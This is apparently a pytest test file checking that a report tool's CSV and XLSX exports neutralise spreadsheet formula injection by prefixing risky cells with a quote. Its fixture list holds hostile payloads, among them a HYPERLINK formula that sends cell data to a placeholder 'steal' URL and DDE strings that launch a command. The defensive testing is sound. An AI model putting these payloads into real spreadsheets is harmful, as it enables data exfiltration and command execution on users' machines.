"""results.csv and results.xlsx never hand a spreadsheet a formula from a company or a reply.

OWASP's rule for CSV injection: a text cell starting with =, +, -, @, tab or carriage
return gets a leading single quote. Numbers and ISO times are left as they are. The JSON
export is data for programs and keeps the raw text.
"""

from __future__ import annotations

import csv
import json
import re
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from reports.render import build_report
from reports.safety import sheet_safe

IL = ZoneInfo("Asia/Jerusalem")
START = datetime(2026, 11, 18, 9, 0, tzinfo=IL)  # a Wednesday
NOW = datetime(2026, 12, 10, 12, 0, tzinfo=IL)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://x.test/steal?d="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ISO = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{3})?Z$")


@pytest.fixture
def hostile_report(builder, tmp_path: Path):
    b = builder
    w = b.wave("wave-1", close_at=datetime(2026, 12, 2, 18, 0, tzinfo=IL))
    for i, bad in enumerate(FORMULAS):
        # unchecked: a store written by other means may hold any name
        cid = b.company(bad, sector=bad, id=f"bad-{i}", promise=bad, unchecked=True)
        sid = b.submit(cid, w, START)
        b.reply(sid, START + timedelta(minutes=30 + i), subject=bad, text=bad, sender=bad)
    cid = b.company("Failed Ltd", id="failed")
    b.submit(cid, w, None, state="failed", reason="-form rejected: =error")
    cid = b.company("Plain Bank", sector="banks")
    sid = b.submit(cid, w, START)
    b.reply(sid, START + timedelta(hours=2))
    return build_report(b.store, b.workspace(), out_dir=tmp_path / "r", now=NOW)


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_results_csv_neutralises_every_formula(hostile_report) -> None:
    rows = _csv_rows(hostile_report.results_csv)
    cells = [v for row in rows for v in row.values()]
    assert not [v for v in cells if v.startswith(TRIGGERS)]
    names = {row["company"] for row in rows}
    assert {"'" + f for f in FORMULAS} <= names
    sectors = {row["sector"] for row in rows}
    assert "'" + FORMULAS[0] in sectors
    assert "'-form rejected: =error" in {row["reason"] for row in rows}


def test_results_csv_is_the_json_with_only_formulas_quoted(hostile_report) -> None:
    """Numbers, ISO times and ordinary text are exactly what the JSON export holds."""
    rows = _csv_rows(hostile_report.results_csv)
    doc = json.loads(hostile_report.results_json.read_text("utf-8"))
    assert len(rows) == len(doc["results"])
    for row, raw in zip(rows, doc["results"], strict=True):
        for col, value in raw.items():
            if value is None:
                expected = ""
            elif isinstance(value, bool):
                expected = "true" if value else "false"
            elif isinstance(value, str) and value.startswith(TRIGGERS):
                expected = "'" + value
            else:
                expected = str(value)
            assert row[col] == expected, (col, value)
    plain = next(r for r in rows if r["company"] == "Plain Bank")
    assert float(plain["response_seconds"]) == 7200
    assert ISO.match(plain["submitted_at"]) and ISO.match(plain["first_reply_at"])


def test_results_xlsx_neutralises_every_formula_and_keeps_numbers(hostile_report) -> None:
    wb = load_workbook(hostile_report.results_xlsx)
    sheet = wb["results"]
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    rows = [
        dict(zip(header, (c.value for c in r), strict=True)) for r in sheet.iter_rows(min_row=2)
    ]
    for row in rows:
        for value in row.values():
            assert not (isinstance(value, str) and value.startswith(TRIGGERS)), value
    assert {"'" + f for f in FORMULAS} <= {r["company"] for r in rows}
    plain = next(r for r in rows if r["company"] == "Plain Bank")
    assert plain["response_seconds"] == 7200 and isinstance(plain["response_seconds"], int | float)
    assert isinstance(plain["submitted_at"], str) and ISO.match(plain["submitted_at"])
    groups = [c.value for c in wb["survival"]["A"]][1:]
    assert not any(isinstance(g, str) and g.startswith(TRIGGERS) for g in groups)
    # no cell is stored as a formula at all
    assert all(c.data_type != "f" for ws in wb.worksheets for r in ws.iter_rows() for c in r)


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+972-3-555", "'+972-3-555"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Bank Leumi", "Bank Leumi"),
        ("2026-11-18T07:00:00Z", "2026-11-18T07:00:00Z"),
        ("", ""),
        (-5, -5),
        (-2.5, -2.5),
        (0, 0),
        (None, None),
        (True, True),
    ],
)
def test_sheet_safe(value: object, safe: object) -> None:
    assert sheet_safe(value) == safe


def test_a_10000_character_name_reports_without_crashing(builder, tmp_path: Path) -> None:
    b = builder
    w = b.wave("wave-1", close_at=datetime(2026, 12, 2, 18, 0, tzinfo=IL))
    for name in ("L" * 10_000, "L" * 9_999 + "M"):
        sid = b.submit(b.company(name), w, START)
        b.reply(sid, START + timedelta(hours=1))
    paths = build_report(b.store, b.workspace(), out_dir=tmp_path / "r", now=NOW)
    pages = sorted((paths.dir / "companies").glob("*.html"))
    assert len(pages) == 2 and len({p.name for p in pages}) == 2
    assert all(len(p.name.encode()) <= 255 for p in pages)
    assert {len(r["company"]) for r in _csv_rows(paths.results_csv)} == {10_000}
